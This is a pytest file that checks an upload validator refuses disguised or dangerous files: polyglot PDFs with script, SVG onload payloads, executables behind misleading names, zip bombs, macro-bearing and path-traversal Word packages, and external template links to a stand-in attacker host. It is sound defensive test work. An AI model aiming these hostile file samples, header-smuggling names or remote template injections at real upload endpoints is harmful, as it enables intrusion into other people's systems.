"""Files that are not what they seem, or do something when they are opened."""

from __future__ import annotations

import io
import zipfile

import pytest

from brokerage.core.errors import RuleBroken
from brokerage.core.uploads import check_upload

LIMIT = 20 * 1024 * 1024
PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
RELATION = '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/{kind}" Target="{to}" TargetMode="{mode}"/>'


def docx(**members: str | bytes) -> bytes:
    """A document with these members besides its own; `__` in a name is a slash."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<document/>")
        for name, content in members.items():
            archive.writestr(name.replace("__", "/"), content)
    return packed.getvalue()


def relations(kind: str, mode: str = "External") -> bytes:
    return RELATION.format(kind=kind, to="https://evil.example/x.dotm", mode=mode).encode()


@pytest.mark.parametrize(
    ("code", "name", "content"),
    [
        ("file_is_not_its_type", "a.pdf", b"<html><script>alert(1)</script>" + PDF),
        ("file_is_not_its_type", "a.png", b"<svg onload=alert(1)>"),
        ("file_type_not_allowed", "a.svg", b"<svg onload=alert(1)>"),
        ("file_type_not_allowed", "a.pdf.html", PDF),
        ("file_type_not_allowed", "../../\u202efdp.exe", PDF),
        ("file_is_program", "a.pdf", b"MZ" + PDF),
        ("file_is_two_things", "a.pdf", PDF[:-6] + docx() + b"%%EOF"),
        ("file_unpacks_too_big", "a.docx", docx(bomb=b"\0" * 60_000_000)),
        ("file_has_macros", "a.docx", docx(word__vbaProject_bin=b"x", **{"word__vbaProject.bin": b"x"})),
        ("file_has_macros", "a.docx", docx(**{"word__embeddings__oleObject1.bin": b"x"})),
        ("file_has_macros", "a.docx", docx(**{"word__activeX__activeX1.xml": b"x"})),
        ("file_has_macros", "a.docx", docx(**{"..__..__etc__passwd": b"x"})),
        ("file_has_macros", "a.docx", docx(**{"word___rels__settings.xml.rels": relations("attachedTemplate")})),
        ("file_has_macros", "a.docx", docx(**{"word___rels__document.xml.rels": relations("oleObject")})),
        ("file_has_macros", "a.docx", docx(**{"word___rels__document.xml.rels": relations("frame")})),
    ],
)
def test_refused(code: str, name: str, content: bytes) -> None:
    with pytest.raises(RuleBroken) as refusal:
        check_upload(name, content, limit=LIMIT)
    assert refusal.value.code == code and refusal.value.field == "file"


@pytest.mark.parametrize("kind", ["hyperlink", "styles", "image"])
def test_an_ordinary_document_with_links_passes(kind: str) -> None:
    content = docx(**{"word___rels__document.xml.rels": relations(kind)})
    assert check_upload("care plan.docx", content, limit=LIMIT).name == "care plan.docx"
    inside = docx(**{"word___rels__settings.xml.rels": relations("attachedTemplate", "Internal")})
    assert check_upload("care plan.docx", inside, limit=LIMIT).content_type.endswith("wordprocessingml.document")


@pytest.mark.parametrize("name", ["a\r\nContent-Type: text/html.pdf", "a\x00.pdf", "…/../.pdf", "\u202ea.pdf"])
def test_a_name_never_carries_a_header_or_a_path(name: str) -> None:
    shown = check_upload(name, PDF, limit=LIMIT).name
    assert shown.endswith(".pdf") and not set("\r\n\x00/\\\u202e") & set(shown)
